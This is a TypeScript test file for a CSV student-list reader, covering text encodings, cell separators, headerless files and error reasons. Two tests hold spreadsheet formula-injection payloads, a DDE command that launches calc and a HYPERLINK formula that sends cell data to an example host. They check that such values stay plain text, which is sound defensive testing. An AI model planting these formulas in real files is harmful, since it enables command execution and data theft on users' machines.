import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { isAppError } from "@/lib/app-error";
import { readStudentList } from "./read-student-list";

const read = (text: string) => readStudentList(Buffer.from(text));
const reasonOf = (run: () => unknown): string => {
  try {
    run();
    return "read";
  } catch (error) {
    return isAppError(error) ? error.reason : String(error);
  }
};
const accents = ["Zoë Müller", "René Besançon", "José Nuñez"];
const table = `username,firstname,lastname,email\r\n${accents
  .map((name) => `x,${name.replace(" ", ",")},${name.slice(0, 2)}@x.example`)
  .join("\r\n")}\r\n`;

describe("a list of people", () => {
  it.each([
    ["UTF-8", Buffer.from(table)],
    ["UTF-8", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(table)])],
    ["UTF-16", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(table, "utf16le")])],
    ["UTF-16", Buffer.from(table, "utf16le")],
    ["windows-1252", Buffer.from(table, "latin1")],
  ])("is read with its accents: %s", (encoding, bytes) => {
    const list = readStudentList(bytes);
    expect(list.encoding).toBe(encoding);
    expect(list.rows.map(({ name }) => name)).toEqual(accents);
    expect(list.unread).toEqual(["username"]);
  });

  it("of an old western spreadsheet keeps its dashes and carons", () => {
    const bytes = Buffer.concat([
      Buffer.from("email;name\na@x.example;M"),
      Buffer.from([0xfc, 0x6c, 0x96, 0x8a, 0x80]),
    ]);
    expect(readStudentList(bytes).rows[0]?.name).toBe("Mül–Š€");
  });

  it("is read whatever separates the cells, in any order, quoted or not, with the line of each row", () => {
    for (const sign of [",", ";", "\t", "|"]) {
      const list = read(
        `Until${sign}E-Mail${sign}Name\n\n2027-01-31${sign}a@x.example${sign}"Ask${sign} ""T"" \nTorben"\n${sign}b@x.example\n`,
      );
      expect(list.rows).toEqual([
        { line: 3, email: "a@x.example", name: `Ask${sign} "T" \nTorben`, until: "2027-01-31" },
        { line: 5, email: "b@x.example", name: "", until: "" },
      ]);
    }
  });

  it("needs no header where a column holds addresses", () => {
    expect(
      read("Runa,runa@havn.example\nCorin,corin@haldvei.example").rows.map(({ line, email }) => [line, email]),
    ).toEqual([
      [1, "runa@havn.example"],
      [2, "corin@haldvei.example"],
    ]);
  });

  it("keeps what a spreadsheet would run as the text it is", () => {
    expect(read(`email,name\na@x.example,"=cmd|'/C calc'!A0"`).rows[0]?.name).toBe("=cmd|'/C calc'!A0");
  });

  it("says why it cannot be read", () => {
    expect(reasonOf(() => read(" \n"))).toBe("enrollment.file_empty");
    expect(reasonOf(() => read("email\n"))).toBe("enrollment.file_empty");
    expect(reasonOf(() => read("name,phone\nRuna,1"))).toBe("enrollment.file_without_addresses");
    expect(reasonOf(() => readStudentList(Buffer.from([0x50, 0x4b, 3, 4, 0, 0, 1, 2, 9, 9])))).toBe(
      "enrollment.file_not_text",
    );
    expect(reasonOf(() => read(`email\n${"a@x.example\n".repeat(5_001)}`))).toBe("enrollment.file_too_long");
    expect(reasonOf(() => read(`email,name\na@x.example,"${"x".repeat(30_000)}`))).toBe("enrollment.file_broken");
  });
});

const samples = join(process.env.TEST_DATA ?? "", "hostile");

describe.skipIf(!process.env.TEST_DATA || !existsSync(samples))("the difficult lists among the sample data", () => {
  it.each([
    ["csv-utf16le-with-bom.csv", ["Zoë Müller", "René Besançon", "José Nuñez"]],
    ["csv-windows-1252.csv", ["Zoë Müller–Šimek", "René Besançon", "José Nuñez"]],
    [
      "csv-formula-injection.csv",
      [
        "Alice =cmd|'/C calc'!A0",
        '=HYPERLINK("http://example.com/?x="&A1,"click") Baker',
        "+1+1 Carter",
        "-2+3 Dawson",
      ],
    ],
  ])("%s", (file, names) => {
    expect(readStudentList(readFileSync(join(samples, file))).rows.map(({ name }) => name)).toEqual(names);
  });
});
